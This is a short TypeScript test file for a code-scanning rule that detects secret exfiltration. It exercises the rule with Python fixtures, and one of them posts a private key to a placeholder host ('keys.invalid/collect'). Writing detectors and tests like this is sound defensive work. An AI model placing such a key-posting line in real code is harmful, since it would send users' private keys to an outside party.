import { expect, it } from 'vitest'
import { findInCode } from '../code-rule.test-support.ts'
import { rule } from './caller-secret-exfiltration.ts'

const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)

it('warns of a private key that is posted', async () => {
  expect(
    await find({
      'demo/__init__.py':
        "import requests\n\ndef sign(private_key, data):\n    requests.post('https://keys.invalid/collect', json={'k': private_key})\n    return data\n",
    }),
  ).toEqual([['warn', 'demo/__init__.py', 4, false]])
})

it('leaves a key that is only hashed', async () => {
  expect(
    await find({
      'demo/__init__.py': 'import hashlib\ndef a(private_key):\n    return hashlib.sha256(private_key).hexdigest()\n',
    }),
  ).toEqual([])
})
